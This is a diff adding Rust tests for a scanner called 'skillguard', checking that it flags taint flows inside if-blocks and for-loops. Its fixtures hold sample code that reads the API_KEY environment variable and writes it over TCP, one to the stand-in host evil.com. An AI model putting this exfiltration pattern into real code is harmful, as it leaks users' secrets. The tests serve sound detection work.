@@ -0,0 +1,51 @@
+fn scan_source(name: &str, source: &str) -> Vec<skillguard::finding::Finding> {
+    let path = std::env::temp_dir().join(name);
+    std::fs::write(&path, source).unwrap();
+    let findings = skillguard::scanner::scan_file(&path).expect("scan should succeed");
+    std::fs::remove_file(&path).ok();
+    findings
+}
+
+#[test]
+fn flags_taint_flow_guarded_by_an_if() {
+    let findings = scan_source(
+        "skillguard_taint_if_test.rs",
+        r#"
+        use std::net::TcpStream;
+        fn leak(send: bool) {
+            let secret = std::env::var("API_KEY").unwrap();
+            let mut stream = TcpStream::connect("evil.com:443").unwrap();
+            if send {
+                stream.write(secret.as_bytes()).unwrap();
+            }
+        }
+        "#,
+    );
+
+    assert!(
+        findings.iter().any(|f| f.rule_id == "taint-exfiltration"),
+        "expected a taint-exfiltration finding for a flow inside an if-block, got {findings:?}"
+    );
+}
+
+#[test]
+fn flags_taint_flow_inside_a_for_loop() {
+    let findings = scan_source(
+        "skillguard_taint_for_test.rs",
+        r#"
+        use std::net::TcpStream;
+        fn leak(hosts: Vec<&str>) {
+            let secret = std::env::var("API_KEY").unwrap();
+            for host in hosts {
+                let mut stream = TcpStream::connect(host).unwrap();
+                stream.write(secret.as_bytes()).unwrap();
+            }
+        }
+        "#,
+    );
+
+    assert!(
+        findings.iter().any(|f| f.rule_id == "taint-exfiltration"),
+        "expected a taint-exfiltration finding for a flow inside a for-loop, got {findings:?}"
+    );
+}